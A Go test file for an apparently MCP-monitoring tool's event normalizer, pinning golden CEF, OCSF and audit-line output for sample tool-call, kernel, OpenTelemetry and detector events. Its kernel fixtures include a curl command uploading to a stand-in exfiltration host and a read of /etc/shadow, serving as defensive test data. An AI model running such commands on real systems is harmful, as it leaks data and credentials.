package normalize

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mcpwatch/mcpwatch/event"
)

var update = flag.Bool("update", false, "rewrite processors/testdata/*.golden from the current output")

// goldenEvents are representative events of every source and class, normalized at [now].
func goldenEvents() map[string]event.Event {
	mcp := func(method string, mod func(*event.Event)) event.Event {
		e := toolCall()
		e.MCP = &event.MCP{Direction: event.DirRequest, Method: method, ProtocolVersion: "2025-11-25",
			Transport: "streamable-http", ClientName: "claude-desktop", ClientVersion: "1.2.0"}
		e.Size, e.PII = event.Size{Request: 96}, nil
		if mod != nil {
			mod(&e)
		}
		return e
	}
	kernel := func(syscall string, mod func(*event.Event)) event.Event {
		e := event.Event{
			Schema: event.SchemaVersion, ID: "0193a5c4-7e1f-7cc3-b5d2-6a1f0e9d3c01",
			Time:   time.Date(2026, 11, 23, 9, 6, 12, 500_000_000, time.UTC),
			Source: event.SourceKernel, Observer: "node-7", Tenant: "acme",
			Target:  event.Target{Server: "sales-db", Sandbox: "sbx-1"},
			Outcome: event.Outcome{Result: event.ResultAllowed},
			Process: &event.Process{PID: 4242, PPID: 4200, UID: 0, Comm: "curl", Exe: "/usr/bin/curl",
				Args: []string{"curl", "-s", "https://exfil.example/upload"}, CgroupID: 9876, Syscall: syscall},
		}
		if mod != nil {
			mod(&e)
		}
		return e
	}
	return map[string]event.Event{
		"mcp_tool_call_allowed": func() event.Event {
			e := toolCall() // through a trusted proxy
			e.Network.Proxy, e.Network.SrcPort, e.Network.UserAgent = "10.0.0.7", 0, "claude-desktop/1.2.0 (darwin)"
			return e
		}(),
		"mcp_tool_call_denied": mcp("tools/call", func(e *event.Event) {
			e.MCP.Tool = "shell_exec"
			e.Outcome = event.Outcome{Result: event.ResultDenied, PolicyRule: "default-deny",
				Reason: "no rule allows tools/call shell_exec", ErrorCode: -32003, HTTPStatus: 403}
		}),
		"mcp_auth_401": mcp("initialize", func(e *event.Event) {
			e.Principal = event.Principal{}
			e.Correlation = event.Correlation{RequestID: "1"}
			e.Network.UserAgent = "python-httpx/0.28.1"
			e.Outcome = event.Outcome{Result: event.ResultDenied, Reason: "invalid_token: signature invalid", HTTPStatus: 401}
		}),
		"mcp_token_revoked": mcp("tools/call", func(e *event.Event) {
			e.Principal.Issuer = "https://idp.example"
			e.MCP.Tool = "db_query"
			e.Outcome = event.Outcome{Result: event.ResultDenied, PolicyRule: "control:revoke/token/acme/tok_3f2a",
				Reason: "access revoked by mcpwatch: threat score 91", ErrorCode: -32003, HTTPStatus: 403}
		}),
		"mcp_error": mcp("tools/call", func(e *event.Event) {
			e.MCP.Direction, e.MCP.Tool, e.MCP.LatencyMS = event.DirResponse, "db_query", 31.4
			e.Outcome = event.Outcome{Result: event.ResultError, Reason: "upstream: connection reset", ErrorCode: -32603}
		}),
		"mcp_tools_list": mcp("tools/list", func(e *event.Event) {
			e.MCP.Direction, e.MCP.ToolsHash = event.DirResponse, "sha256:9f2c"
		}),
		"mcp_resources_read": mcp("resources/read", func(e *event.Event) {
			e.MCP.ResourceURI = "postgres://sales/customers?limit=10"
			e.DataClasses, e.PII = []string{"pii"}, map[string]int{"email": 10, "phone_kr": 4}
		}),
		"mcp_sampling": mcp("sampling/createMessage", func(e *event.Event) {
			e.MCP.Direction = event.DirServerRequest
			e.Attributes = map[string]string{"mcp.sender": "server"}
		}),
		"mcp_stdio_prompt": mcp("prompts/get", func(e *event.Event) {
			e.MCP.Transport, e.MCP.Prompt = "stdio", "summarize"
			e.Network = event.Network{}
		}),
		"kernel_execve": kernel("execve", nil),
		"kernel_connect": kernel("connect", func(e *event.Event) {
			e.Network = event.Network{SrcIP: "10.88.0.5", SrcPort: 40112, DstIP: "203.0.113.9", DstPort: 443}
			e.Process.Args = nil
		}),
		"kernel_connect_blocked": kernel("connect", func(e *event.Event) {
			e.Network = event.Network{DstIP: "203.0.113.9", DstPort: 443}
			e.Outcome = event.Outcome{Result: event.ResultDenied, PolicyRule: "control:quarantine/sandbox/acme/sbx-1"}
			e.Process.Args = nil
		}),
		"kernel_openat": kernel("openat", func(e *event.Event) {
			e.Process.Path, e.Process.Args = "/etc/shadow", nil
		}),
		"kernel_other": kernel("ptrace", func(e *event.Event) { e.Process.Args = nil }),
		"otel_span": {
			Schema: event.SchemaVersion, ID: "0193a5c4-7e1f-7cc3-b5d2-6a1f0e9d3d01",
			Time:   time.Date(2026, 11, 23, 9, 6, 12, 700_000_000, time.UTC),
			Source: event.SourceOTel, Observer: "collector-1", Tenant: "acme",
			Correlation: event.Correlation{TraceID: "4bf92f3577b34da6a3ce929d0e0e4736", SpanID: "00f067aa0ba902b7"},
			Outcome:     event.Outcome{Result: event.ResultAllowed},
			Span:        &event.Span{Name: "SELECT sales.customers", Kind: "client", DurationMS: 8.25, Status: "ok", Service: "sales-db-mcp"},
		},
		"otel_mcp_span": {
			Schema: event.SchemaVersion, ID: "0193a5c4-7e1f-7cc3-b5d2-6a1f0e9d3d02",
			Time:   time.Date(2026, 11, 23, 9, 6, 12, 800_000_000, time.UTC),
			Source: event.SourceOTel, Observer: "collector-1", Tenant: "acme",
			Principal:   event.Principal{Subject: "alice"},
			Correlation: event.Correlation{TraceID: "4bf92f3577b34da6a3ce929d0e0e4736", SessionID: "s-1", RequestID: "8"},
			MCP:         &event.MCP{Direction: event.DirResponse, Method: "tools/call", Tool: "db_query", LatencyMS: 11},
			Outcome:     event.Outcome{Result: event.ResultAllowed},
			Span:        &event.Span{Name: "tools/call db_query", Kind: "server", DurationMS: 11, Service: "sales-db-mcp"},
		},
		"unknown_source": {
			Schema: event.SchemaVersion, ID: "0193a5c4-7e1f-7cc3-b5d2-6a1f0e9d3e01",
			Time: time.Date(2026, 11, 23, 9, 6, 13, 0, time.UTC), Source: "syslog", Tenant: "acme",
			Outcome: event.Outcome{Result: event.ResultAllowed},
		},
	}
}

func goldenFinding() event.Finding {
	return event.Finding{
		Schema: event.SchemaVersion, ID: "rate-0193a5c4-7e1f-7cc3-b5d2-6a1f0e9d3b21",
		Time:      time.Date(2026, 11, 23, 9, 6, 12, 345_000_000, time.UTC),
		Tenant:    "acme",
		Principal: event.Principal{Subject: "alice", ClientID: "claude-desktop", Roles: []string{"analyst"}, TokenID: "tok_3f2a"},
		Detector:  "rate", Score: 72.5, Severity: 7,
		Summary:     "alice made 212 calls in 1m0s (3.5/s, normal ≤ 0.5/s)",
		WindowStart: time.Date(2026, 11, 23, 9, 5, 12, 345_000_000, time.UTC),
		WindowEnd:   time.Date(2026, 11, 23, 9, 6, 12, 345_000_000, time.UTC),
		Features:    map[string]float64{"calls": 212, "rate_per_s": 3.5333, "baseline": 0.5, "ceiling": 5, "window_s": 60},
		EventIDs:    []string{"0193a5c4-7e1f-7cc3-b5d2-6a1f0e9d3b21", "0193a5c4-7e1f-7cc3-b5d2-6a1f0e9d3b22"},
	}
}

// checkGolden compares got with testdata/name, or rewrites the file under -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./processors -run Golden -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (if the change is intended, rerun with -update and review the diff):\n got %s\nwant %s", path, got, want)
	}
}

// indentOCSF pretty-prints an OCSF object for a reviewable golden file; the compact bytes are
// what travels, and indenting is a pure function of them.
func indentOCSF(t *testing.T, raw []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := json.Indent(&b, raw, "", "  "); err != nil {
		t.Fatalf("OCSF is not JSON: %v\n%s", err, raw)
	}
	b.WriteByte('\n')
	return b.Bytes()
}

// TestGoldenEvents pins the CEF line, the OCSF object and the one-line audit format of every
// representative event. SIEM parsers, OCSF consumers and people reading logs all depend on these
// exact bytes, so any change must show up here as a reviewed golden diff.
func TestGoldenEvents(t *testing.T) {
	for name, in := range goldenEvents() {
		t.Run(name, func(t *testing.T) {
			e, err := Normalize(in, now)
			if err != nil {
				t.Fatal(err)
			}
			again, err := Normalize(in, now)
			if err != nil {
				t.Fatal(err)
			}
			if again.Normalized.CEF != e.Normalized.CEF || !bytes.Equal(again.Normalized.OCSF, e.Normalized.OCSF) {
				t.Fatal("normalizing the same event twice gave different output")
			}
			if _, err := parseCEF(e.Normalized.CEF); err != nil {
				t.Fatalf("CEF %q: %v", e.Normalized.CEF, err)
			}
			checkGolden(t, name+".cef.golden", []byte(e.Normalized.CEF+"\n"))
			checkGolden(t, name+".ocsf.golden", indentOCSF(t, e.Normalized.OCSF))
			checkGolden(t, name+".line.golden", []byte(Line(e)+"\n"))
		})
	}
}

// TestGoldenFinding pins the three renderings of a detector finding, which the syslog forwarder
// sends to SIEMs.
func TestGoldenFinding(t *testing.T) {
	f := goldenFinding()
	line := FindingCEF(f)
	if _, err := parseCEF(line); err != nil {
		t.Fatalf("finding CEF %q: %v", line, err)
	}
	ocsf, err := FindingOCSF(f)
	if err != nil {
		t.Fatal(err)
	}
	checkGolden(t, "finding_rate.cef.golden", []byte(line+"\n"))
	checkGolden(t, "finding_rate.ocsf.golden", indentOCSF(t, ocsf))
	checkGolden(t, "finding_rate.line.golden", []byte(FindingLine(f)+"\n"))
}

// The OCSF header of each class must be internally consistent: a consumer routes on class_uid
// and type_uid, and OCSF defines type_uid = class_uid*100 + activity_id and category_uid =
// class_uid/1000.
func TestOCSFClassHeader(t *testing.T) {
	want := map[string][3]int{ // class, activity, status
		"mcp_tool_call_allowed": {6003, 99, 1}, "mcp_tool_call_denied": {6003, 99, 2},
		"mcp_auth_401": {3002, 1, 2}, "mcp_token_revoked": {3002, 1, 2}, "mcp_error": {6003, 99, 2},
		"mcp_tools_list": {6003, 2, 1}, "mcp_resources_read": {6003, 2, 1}, "mcp_sampling": {6003, 1, 1},
		"mcp_stdio_prompt": {6003, 2, 1}, "kernel_execve": {1007, 1, 1}, "kernel_connect": {4001, 1, 1},
		"kernel_connect_blocked": {4001, 5, 2}, "kernel_openat": {1001, 14, 1}, "kernel_other": {1007, 99, 1},
		"otel_span": {6003, 99, 1}, "otel_mcp_span": {6003, 99, 1}, "unknown_source": {0, 99, 1},
	}
	events := goldenEvents()
	if len(want) != len(events) {
		t.Fatalf("table covers %d of %d golden events", len(want), len(events))
	}
	for name, in := range events {
		e, err := Normalize(in, now)
		if err != nil {
			t.Fatal(err)
		}
		var m map[string]any
		if err := json.Unmarshal(e.Normalized.OCSF, &m); err != nil {
			t.Fatal(err)
		}
		num := func(k string) int { v, _ := m[k].(float64); return int(v) }
		w := want[name]
		class, activity := num("class_uid"), num("activity_id")
		if class != w[0] || activity != w[1] || num("status_id") != w[2] {
			t.Errorf("%s: class %d activity %d status %d, want %v", name, class, activity, num("status_id"), w)
		}
		if num("type_uid") != class*100+activity || num("category_uid") != class/1000 {
			t.Errorf("%s: type_uid %d category_uid %d inconsistent with class %d activity %d", name, num("type_uid"), num("category_uid"), class, activity)
		}
		if int64(m["time"].(float64)) != in.Time.UnixMilli() {
			t.Errorf("%s: time %v, want %d", name, m["time"], in.Time.UnixMilli())
		}
		md := m["metadata"].(map[string]any)
		if md["uid"] != in.ID || md["version"] != OCSFVersion || md["event_code"] != e.Normalized.Signature {
			t.Errorf("%s: metadata %v", name, md)
		}
		if id, _ := OCSFSeverity(e.Severity); num("severity_id") != id {
			t.Errorf("%s: severity_id %d for CEF severity %d", name, num("severity_id"), e.Severity)
		}
		if strings.Contains(string(e.Normalized.OCSF), "\n") {
			t.Errorf("%s: OCSF is not compact", name)
		}
	}
}
